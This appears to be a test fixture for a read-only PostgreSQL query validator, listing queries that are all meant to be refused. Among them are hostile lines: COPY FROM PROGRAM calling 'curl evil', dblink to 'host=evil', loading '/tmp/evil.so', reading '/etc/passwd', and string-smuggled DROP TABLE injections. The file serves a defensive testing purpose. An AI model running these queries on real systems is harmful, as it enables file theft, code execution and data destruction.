-- One query on each line; all of them are refused.
WITH gone AS (DELETE FROM sessions RETURNING *) SELECT count(*) FROM gone
WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM a, b
WITH a AS (INSERT INTO t SELECT * FROM u RETURNING *) SELECT 1
WITH a AS (MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM a
WITH a AS (WITH b AS (DELETE FROM t RETURNING 1) SELECT * FROM b) SELECT * FROM a
SELECT * FROM (DELETE FROM t RETURNING *) x
SELECT (INSERT INTO t VALUES (1) RETURNING a)
SELECT a INTO new_table FROM t
SELECT a INTO TEMP TABLE x FROM t
SELECT * INTO UNLOGGED x FROM t UNION SELECT * FROM u
WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x
WITH x AS (SELECT 1) DELETE FROM t USING x
WITH x AS (SELECT 1) UPDATE t SET a = 1 FROM x
MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE
TABLE t
VALUES (1), (2)
COPY t TO '/tmp/t.csv'
COPY t FROM '/etc/passwd'
COPY t FROM PROGRAM 'curl evil'
COPY (SELECT * FROM t) TO PROGRAM 'id' WITH (FORMAT csv)
CREATE TABLE x AS SELECT 1
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE EXTENSION dblink
CREATE VIEW v AS SELECT 1
DO $$ BEGIN DELETE FROM t; END $$
DO LANGUAGE plpgsql 'BEGIN PERFORM pg_sleep(10); END'
CALL do_it()
EXECUTE plan(1)
PREPARE plan AS DELETE FROM t
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT 1
FETCH ALL FROM c
LISTEN channel
NOTIFY channel, 'x'
LOCK TABLE t IN ACCESS EXCLUSIVE MODE
SET SESSION AUTHORIZATION postgres
SET transaction_read_only = off
SET LOCAL statement_timeout = 0
RESET ALL
SHOW data_directory
DISCARD ALL
BEGIN; DELETE FROM t; COMMIT
ROLLBACK
SAVEPOINT a
START TRANSACTION READ WRITE
EXPLAIN ANALYZE DELETE FROM t
ANALYZE t
REINDEX TABLE t
CLUSTER t
REFRESH MATERIALIZED VIEW v
GRANT ALL ON t TO public
ALTER SYSTEM SET log_statement = 'all'
ALTER ROLE postgres PASSWORD 'x'
LOAD '/tmp/evil.so'
CHECKPOINT
COMMENT ON TABLE t IS 'x'
SECURITY LABEL ON TABLE t IS 'x'
IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public
SELECT 1; SELECT pg_sleep(10)
SELECT 1;;; DROP TABLE t
SELECT 1 /* a */ ; /* b */ DELETE FROM t
SELECT '\'; DROP TABLE t; --'
SELECT 'a' || '; DROP TABLE t; --
SELECT E'a\'; DROP TABLE t; --
SELECT * FROM t FOR UPDATE
SELECT * FROM t FOR UPDATE OF t NOWAIT
SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED
SELECT * FROM t FOR KEY SHARE
SELECT * FROM (SELECT * FROM t FOR UPDATE) q
WITH q AS (SELECT * FROM t FOR SHARE) SELECT * FROM q
SELECT pg_sleep(60)
SELECT pg_sleep_for('5 minutes'), pg_sleep_until('tomorrow')
SELECT PG_SLEEP(1)
SELECT "pg_sleep"(1)
SELECT pg_catalog."pg_sleep"(1)
SELECT "pg_catalog"."pg_sleep"(1)
SELECT pg_sleep	(1)
SELECT U&"\0070g_sleep"(1)
SELECT U&'\0041'
SELECT u&'d!0061t' UESCAPE '!'
SELECT $$quoted$$
SELECT $tag$ ; DROP TABLE t; $tag$
SELECT $1
SELECT * FROM t WHERE a = ?
SELECT * FROM t WHERE a = :name
SELECT * FROM t WHERE a = %s
SELECT 'a' 'b'
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('postgresql.conf', 0, 100)
SELECT * FROM pg_ls_dir('.')
SELECT pg_stat_file('postgresql.conf')
SELECT * FROM pg_ls_logdir(), pg_ls_waldir()
SELECT pg_current_logfile()
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_get(16400), lo_put(16400, 0, 'x'), lo_create(0), lo_unlink(1), loread(0, 10)
SELECT lo_from_bytea(0, 'x')
SELECT * FROM dblink('dbname=postgres', 'DELETE FROM t') AS t(a int)
SELECT dblink_connect('host=evil'), dblink_exec('DROP TABLE t')
SELECT public.dblink('a', 'b')
SELECT query_to_xml('SELECT pg_sleep(10)', true, false, '')
SELECT table_to_xml('t', true, false, ''), database_to_xml(true, false, '')
SELECT xmlparse(document '<a/>')
SELECT set_config('transaction_read_only', 'off', false)
SELECT current_setting('data_directory')
SELECT pg_reload_conf(), pg_rotate_logfile()
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_cancel_backend(1)
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_lock(1), pg_advisory_unlock_all()
SELECT pg_advisory_xact_lock(42)
SELECT nextval('s'), setval('s', 1), currval('s'), lastval()
SELECT pg_notify('channel', 'x')
SELECT pg_switch_wal(), pg_create_restore_point('x'), pg_promote()
SELECT pg_export_snapshot(), txid_current(), pg_current_xact_id()
SELECT pg_logical_emit_message(true, 'a', 'b'), pg_create_logical_replication_slot('a', 'b')
SELECT has_table_privilege('t', 'SELECT'), pg_get_functiondef(1), inet_server_addr()
SELECT pg_relation_filepath('t'), pg_size_pretty(pg_database_size('postgres'))
SELECT my_own_function(a) FROM t
SELECT public.lower('A')
SELECT other.count(a) FROM t
SELECT "Lower"('A')
SELECT * FROM my_table_function(1)
SELECT a FROM t WHERE my_check(a)
SELECT a FROM t ORDER BY my_key(a)
SELECT a FROM t GROUP BY my_group(a) HAVING my_check(a)
SELECT sum(my_own(a)) OVER (PARTITION BY my_part(b)) FROM t
WITH lower(a) AS (SELECT 1) SELECT pg_sleep(1) FROM lower
SELECT (SELECT (SELECT pg_sleep(1)))
SELECT CASE WHEN true THEN pg_sleep(1) END
SELECT * FROM t JOIN LATERAL pg_sleep(1) ON true
SELECT a FROM t LIMIT (SELECT pg_sleep(1)::text::int)
SELECT ts_stat('SELECT pg_sleep(10)')
SELECT * FROM crosstab('DELETE FROM t') AS x(a int)
SELECT cursor_to_xml('c', 1, true, false, '')
SELECT plpgsql_call_handler()
SELECT a FROM t WHERE a = :index_values
SELECT a FROM t WHERE a IN (:index_values, 1)
SELECT 1 /* unclosed
SELECT "unclosed
SELECT 'unclosed
SELECT (1
SELECT 1)
SELECT FROM WHERE
;
